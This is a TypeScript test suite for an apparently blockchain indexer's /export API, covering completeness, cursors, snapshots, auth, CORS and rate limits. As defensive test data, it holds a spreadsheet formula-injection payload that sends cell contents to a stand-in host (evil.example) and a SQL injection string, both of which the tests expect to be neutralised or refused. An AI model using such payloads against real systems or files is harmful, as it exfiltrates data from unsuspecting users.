import 'reflect-metadata'
import {once} from 'node:events'
import {get} from 'node:http'
import {connect} from 'node:net'
import {afterAll, beforeAll, describe, expect, test} from 'vitest'
import {createKey} from '../../src/access/keyStore'
import {EXPORTS} from '../../src/api/export/lists'
import type {ApiServer} from '../../src/api/httpServer'
import {startApiUnderTest} from '../support/apiUnderTest'
import {exportsWaiting, startExportServer} from '../support/exportServer'
import {CHAIN} from '../support/filledDatabase'
import {insertRow, laterKey} from '../support/givenRows'

const MANY = 30_000
const DULL = `0x${'dd'.repeat(20)}`

let app: Awaited<ReturnType<typeof startApiUnderTest>>
let server: ApiServer
let key: string
beforeAll(async () => {
  app = await startApiUnderTest()
  server = await startExportServer(app.pool)
  key = await createKey(app.pool, {name: 'analyst', scopes: ['export'], expiresAt: null})
})
afterAll(async () => {
  await server.close()
  await app.stop()
})

const url = (path: string, parameters: Readonly<Record<string, string>> = {}) =>
  `http://127.0.0.1:${server.port}/export/${path}?${new URLSearchParams(parameters)}`
const ask = (path: string, parameters = {}, init: RequestInit = {}) => fetch(url(path, parameters), {headers: {'x-api-key': key}, ...init})
type Row = Readonly<Record<string, unknown> & {id: string; cursor: string}>
const rowsOf = async (path: string, parameters = {}): Promise<readonly Row[]> => {
  const response = await ask(path, parameters)
  expect(response.status).toBe(200)
  return (await response.text())
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line) as Row)
}
const idsBy = async (query: string): Promise<readonly string[]> => (await app.answer(query)).transfers.nodes.map(({id}: {id: string}) => id)
const idle = () => expect.poll(() => app.pool.totalCount - app.pool.idleCount, {timeout: 5_000}).toBe(0)
const fillDull = () =>
  app.pool.query(
    `INSERT INTO transfer SELECT 'x' || lpad(n::text, 12, '0'), chain_id, block_number, log_index, "timestamp", transaction_hash, transaction_from,
       collection_id, asset_id, token_id, "from", $1, amount, operator, incarnation, ordinal
     FROM (SELECT * FROM transfer ORDER BY id LIMIT 1) t, generate_series(1, ${MANY}) n`,
    [DULL],
  )

describe('/export', () => {
  test.each([...EXPORTS.keys()])('%s comes whole, each row once, as JSON lines and as CSV', async (list) => {
    const spec = EXPORTS.get(list)
    const rows = await rowsOf(`${list}.ndjson`, spec?.hasAuthority ? {includeUnverified: 'true'} : {})
    const {totalCount} =
      list === 'balances'
        ? {totalCount: app.rows('Balance').filter(({amount}) => amount !== 0n).length}
        : (await app.answer(`{ ${list}${spec?.hasAuthority ? '(includeUnverified: true)' : ''} { totalCount } }`))[list]
    expect(rows.length).toBe(totalCount)
    expect(new Set(rows.map(({id}) => id)).size).toBe(rows.length)
    const csv = await (await ask(`${list}.csv`, spec?.hasAuthority ? {includeUnverified: 'true'} : {})).text()
    const lines = csv.split('\r\n')
    expect(lines[0]).toMatch(/^id,.*,cursor$/)
    expect(lines.slice(1, -1).map((line) => line.split(',').at(-1))).toEqual(rows.map(({cursor}) => cursor))
  })

  test('has the filter, the order and the cursors of the list', async () => {
    const parameters = {where: JSON.stringify({tokenId: {gte: '2'}}), orderBy: 'TIMESTAMP_DESC'}
    const rows = await rowsOf('transfers.ndjson', parameters)
    const wanted = 'first: 500, where: {tokenId: {gte: "2"}}, orderBy: TIMESTAMP_DESC'
    expect(rows.map(({id}) => id)).toEqual(await idsBy(`{ transfers(${wanted}) { nodes { id } } }`))
    const middle = rows[Math.floor(rows.length / 2)] as Row
    expect((await rowsOf('transfers.ndjson', {...parameters, after: middle.cursor})).map(({id}) => id)).toEqual(
      rows.slice(rows.indexOf(middle) + 1).map(({id}) => id),
    )
    expect(await idsBy(`{ transfers(${wanted}, after: "${middle.cursor}") { nodes { id } } }`)).toEqual(
      rows.slice(rows.indexOf(middle) + 1).map(({id}) => id),
    )
  })

  test('a list with times that are not there is whole in both directions', async () => {
    const up = (await rowsOf('assets.ndjson', {orderBy: 'MINTED_AT_ASC'})).map(({id}) => id)
    expect((await rowsOf('assets.ndjson', {orderBy: 'MINTED_AT_DESC'})).map(({id}) => id)).toEqual([...up].reverse())
  })

  test('names an ERC-1155 asset as what it is', async () => {
    const ids = (await rowsOf('balances.ndjson')).map((row) => row['assetId'] as string)
    expect(ids.length).toBeGreaterThan(0)
    expect(ids.every((id) => id.startsWith(`eip155:${CHAIN}/erc1155:`))).toBe(true)
  })

  test.each([
    ['now', {}, ''],
    ['as of a past block', {asOf: '{"block": 7}'}, ', asOf: {block: 7}'],
  ])('names a collection as the API does: %s', async (_, parameters, asOf) => {
    const idsOf = async (list: string, field: string) =>
      new Set((await rowsOf(`${list}.ndjson`, parameters)).map((row) => row[field] as string))
    const {nodes} = (await app.answer(`{ collections(first: 500${asOf}) { nodes { id } } }`)).collections
    const told = new Set(nodes.map(({id}: {id: string}) => id))
    expect(await idsOf('collections', 'id')).toEqual(told)
    expect(new Set([...told].map((id) => /erc\d+/.exec(id as string)?.[0]))).toEqual(new Set(['erc721', 'erc1155']))
    for (const list of ['assets', 'balances', 'transfers'])
      for (const id of await idsOf(list, 'collectionId')) expect(told, list).toContain(id)
  })

  test('a continued CSV has no second head, and the file says which block it is of', async () => {
    const [first, second] = await rowsOf('transfers.ndjson')
    const response = await ask('transfers.csv', {after: first?.cursor})
    expect((await response.text()).slice(0, 40)).toBe(second?.id.slice(0, 40))
    expect(response.headers.get('x-indexed-blocks')).toMatch(new RegExp(`^eip155:${CHAIN}=19:0x[0-9a-b]{64}$`))
  })

  test('as of a past block is the list as of that block, goes on from its cursors, and says how final it is [INV-9]', async () => {
    const parameters = {asOf: '{"block": 7}', orderBy: 'TIMESTAMP_DESC'}
    const rows = await rowsOf('transfers.ndjson', parameters)
    const ids = rows.map(({id}) => id)
    expect(ids).toEqual(await idsBy('{ transfers(first: 500, orderBy: TIMESTAMP_DESC, asOf: {block: 7}) { nodes { id } } }'))
    expect(rows.every(({blockNumber}) => Number(blockNumber) <= 7)).toBe(true)
    const middle = rows[Math.floor(rows.length / 2)] as Row
    expect((await rowsOf('transfers.ndjson', {...parameters, after: middle.cursor})).map(({id}) => id)).toEqual(
      ids.slice(rows.indexOf(middle) + 1),
    )
    const momentOf = async (asOf: string) => (await ask('assets.csv', {asOf})).headers.get('x-as-of')
    expect(await momentOf('{"block": 7}')).toMatch(new RegExp(`^eip155:${CHAIN}=7:0x[0-9a-b]{64}:FINAL$`))
    expect(await momentOf(`{"block": 15, "chainId": "eip155:${CHAIN}"}`)).toMatch(/:HEAD$/)
  })

  test("what a log's author wrote runs in no spreadsheet [INV-8]", async () => {
    const uri = '=HYPERLINK("http://evil.example?"&A1,"x")\r\n@SUM(A1)'
    await insertRow(app.pool, 'MetadataChange', {id: laterKey(9), scope: 'contract', collectionId: `${CHAIN}-${DULL}`, uri})
    const csv = await (await ask('metadataUpdates.csv')).text()
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example?""&A1,""x"")\r\n@SUM(A1)"`)
  })
})

describe('/export refuses', () => {
  test.each([
    ['no such list', 'nothing.csv', {}, 404, undefined],
    ['no such format', 'transfers.xlsx', {}, 404, undefined],
    ['a where that is no JSON', 'transfers.csv', {where: '{'}, 400, 'BAD_USER_INPUT'],
    ['a field that is not there', 'transfers.csv', {where: '{"nope": {"eq": 1}}'}, 400, 'BAD_USER_INPUT'],
    ['SQL', 'transfers.csv', {where: `{"from": {"eq": "' OR 1=1 --"}}`}, 400, 'BAD_USER_INPUT'],
    ['an order without an index', 'transfers.csv', {orderBy: 'FROM_ASC'}, 400, 'BAD_USER_INPUT'],
    ['a cursor of nobody', 'transfers.csv', {after: 'x'}, 400, 'BAD_USER_INPUT'],
    ['a cursor that is empty', 'transfers.csv', {after: ''}, 400, 'BAD_USER_INPUT'],
    ['a moment that is none', 'transfers.csv', {asOf: '{"block": "x"}'}, 400, 'BAD_USER_INPUT'],
    ['a block that is not indexed', 'transfers.csv', {asOf: '{"block": 99}'}, 400, 'BLOCK_NOT_INDEXED'],
    ['a hash of no block', 'transfers.csv', {asOf: `{"block": 7, "blockHash": "0x${'12'.repeat(32)}"}`}, 400, 'BLOCK_NOT_CANONICAL'],
    ['a misspelt parameter', 'transfers.csv', {orderby: 'ID_ASC'}, 400, 'BAD_USER_INPUT'],
  ])('%s', async (_, path, parameters, status, code) => {
    const response = await ask(path, parameters)
    const {errors} = (await response.json()) as {errors: {extensions?: {code: string}}[]}
    expect([response.status, errors[0]?.extensions?.code]).toEqual([status, code])
    await idle()
  })

  test('who has no key for it', async () => {
    const reader = await createKey(app.pool, {name: 'reader', scopes: ['read'], expiresAt: null})
    expect((await fetch(url('transfers.csv'))).status).toBe(401)
    expect((await ask('transfers.csv', {}, {headers: {'x-api-key': reader}})).status).toBe(403)
  })

  test('origins that the config does not name', async () => {
    const allowing = async (origin: string) =>
      (await ask('transfers.csv', {}, {method: 'OPTIONS', headers: {origin}})).headers.get('access-control-allow-origin')
    expect([await allowing('https://app.example'), await allowing('https://evil.example')]).toEqual(['https://app.example', null])
  })
})

describe('/export and its clients [INV-8]', () => {
  test('a client that goes away stops its query in the database, and no more than two run for one key', async () => {
    const locker = await app.pool.connect()
    await locker.query('BEGIN; LOCK TABLE transfer IN ACCESS EXCLUSIVE MODE')
    const gone = new AbortController()
    const requests = [1, 2].map(() => ask('transfers.csv', {}, {signal: gone.signal}).catch(() => 'aborted'))
    await expect.poll(() => exportsWaiting(app.pool), {timeout: 5_000}).toBe(2)
    const third = await ask('transfers.csv')
    expect([third.status, await third.json()]).toEqual([
      429,
      {errors: [expect.objectContaining({extensions: expect.objectContaining({limit: 2})})]},
    ])
    gone.abort()
    expect(await Promise.all(requests)).toEqual(['aborted', 'aborted'])
    await expect.poll(() => exportsWaiting(app.pool), {timeout: 5_000}).toBe(0)
    await locker.query('ROLLBACK')
    locker.release()
    await idle()
  })

  test('a file is of one moment, whatever is written while it is read', async () => {
    await fillDull()
    const response = await ask('transfers.ndjson', {where: JSON.stringify({to: {eq: DULL}})})
    await app.pool.query('DELETE FROM transfer WHERE "to" = $1', [DULL])
    const lines = (await response.text()).split('\n').slice(0, -1)
    expect(new Set(lines.map((line) => (JSON.parse(line) as Row).id)).size).toBe(MANY)
  })

  test('a client that takes nothing holds no connection for long, and what it got goes on from its last cursor', async () => {
    await fillDull()
    const parameters = {where: JSON.stringify({to: {eq: DULL}})}
    const got = await new Promise<string>((resolve, reject) => {
      let text = ''
      get(url('transfers.ndjson', parameters), {headers: {'x-api-key': key}}, (response) => {
        response.setEncoding('utf8')
        response.on('data', (chunk: string) => (text += chunk))
        response.on('error', () => resolve(text))
        response.on('end', () => reject(new Error('it came whole')))
        response.pause()
        void idle().then(() => response.resume(), reject)
      }).on('error', reject)
    })
    const whole = got
      .split('\n')
      .slice(0, -1)
      .map((line) => JSON.parse(line) as Row)
    expect(whole.length).toBeGreaterThan(0)
    expect(whole.length).toBeLessThan(MANY)
    const rest = await rowsOf('transfers.ndjson', {...parameters, after: whole.at(-1)?.cursor as string})
    expect(new Set([...whole, ...rest].map(({id}) => id)).size).toBe(MANY)
    expect(whole.length + rest.length).toBe(MANY)
  })

  test('a file that breaks off is seen as broken over HTTP/1.0, too, which has no last chunk', async () => {
    await app.pool.query('DELETE FROM transfer WHERE "to" = $1', [DULL])
    await fillDull()
    const socket = connect({port: server.port, host: '127.0.0.1', allowHalfOpen: true})
    socket.write(`GET /export/transfers.ndjson HTTP/1.0\r\nhost: x\r\nx-api-key: ${key}\r\n\r\n`)
    await once(socket, 'readable')
    // It takes nothing, for so long that it is sent away.
    await idle()
    await once(socket.resume(), 'end').catch(() => {})
    // Node.js tells a reset behind what was not read yet as an end; that there is no peer any more only a reset does.
    expect(socket.remoteAddress).toBeUndefined()
    socket.destroy()
  })
})
